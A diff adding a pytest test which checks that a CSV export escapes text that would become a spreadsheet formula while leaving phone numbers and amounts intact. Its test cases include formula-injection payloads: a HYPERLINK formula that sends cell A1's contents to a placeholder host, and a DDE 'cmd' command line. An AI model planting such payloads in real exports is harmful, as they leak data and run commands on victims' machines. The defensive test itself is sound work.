@@ -123,6 +123,24 @@ def test_csv_is_utf8_bom_semicolon_and_round_trips(tmp_path: Path) -> None:
     assert stat.S_IMODE(os.stat(path).st_mode) == 0o600
 
 
+@pytest.mark.parametrize("text, cell", [
+    ('=HYPERLINK("http://x/?"&A1,"Нажми") Иван', '\'=HYPERLINK("http://x/?"&A1,"Нажми") Иван'),
+    ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
+    ("-2+3*cmd", "'-2+3*cmd"),
+    ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
+    ("\t=1+1", "'=1+1"),  # a control character stripped first does not hide the formula
+    ("+79031112233", "+79031112233"),  # a phone stays what billing reads
+    ("-300,50", "-300,50"),
+    ("+7 (903) 111-22-33", "+7 (903) 111-22-33"),
+    ("Иванов = Петров", "Иванов = Петров"),
+])
+def test_csv_text_that_would_be_a_formula_is_kept_text(tmp_path: Path, text: str,
+                                                        cell: str) -> None:
+    sheet = Sheet("x", [Column("Клиент"), Column("Сумма", kind=MONEY)], [[text, -100]])
+    rows = csv_rows(write_table(tmp_path / "x.csv", "csv", [sheet]))
+    assert rows[1] == [cell, "-1,00"]  # money is a number, never given the apostrophe
+
+
 def test_table_refuses_ragged_rows_and_unknown_formats(tmp_path: Path) -> None:
     ragged = Sheet("x", [Column("a"), Column("b")], [["1"]])
     with pytest.raises(ValueError, match="row 1"):
